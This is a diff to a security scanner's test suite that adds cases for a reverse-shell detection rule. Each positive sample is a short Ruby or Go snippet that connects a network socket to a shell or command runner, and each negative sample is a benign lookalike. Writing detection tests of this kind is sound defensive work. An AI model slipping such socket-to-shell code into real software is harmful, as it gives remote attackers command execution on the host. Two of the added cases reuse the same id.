@@ -117,4 +117,28 @@ describeRuleCases('reverse-shell', [
     negative:
       "use DBI;\nmy $dbh = DBI->connect($dsn, $user, $pass);\nopen(STDOUT, '>&', $log);\nexec('/bin/sh', '-c', $job);\n",
   },
+  {
+    id: 'SG-RSHELL-005',
+    file: 'scripts/tail.rb',
+    positive:
+      'io = Socket.tcp(host, port)\nwhile (line = io.gets)\n  f = JSON.parse(line)\n  Open3.popen2e(f["cmd"]) { |_i, o, _w| o.each_line { |l| io.write(l) } }\nend\n',
+    negative:
+      'io = Socket.tcp(host, port)\nOpen3.popen2e(command) { |_i, o, _w| o.each_line { |l| io.write(l) } }\n',
+  },
+  {
+    id: 'SG-RSHELL-007',
+    file: 'cmd/agent/main.go',
+    positive:
+      'conn, err := tls.Dial("tcp", addr, cfg)\ncmd := exec.Command(shell, args...)\ncmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn\n_ = cmd.Run()\n',
+    negative:
+      'conn, err := tls.Dial("tcp", addr, cfg)\ncmd := exec.Command(name, args...)\ncmd.Stdin, cmd.Stdout = os.Stdin, os.Stdout\n_ = cmd.Run()\n',
+  },
+  {
+    id: 'SG-RSHELL-007',
+    file: 'lib/share.rb',
+    positive:
+      'sock = Socket.tcp(host, port)\nr, w, pid = PTY.spawn(ENV["SHELL"], "-i")\nThread.new { IO.copy_stream(sock, w) }\nIO.copy_stream(r, sock)\n',
+    negative:
+      'r, w, pid = PTY.spawn(ENV["SHELL"], "-i")\nlog = File.open(path, "w")\nIO.copy_stream(r, log)\n',
+  },
 ]);
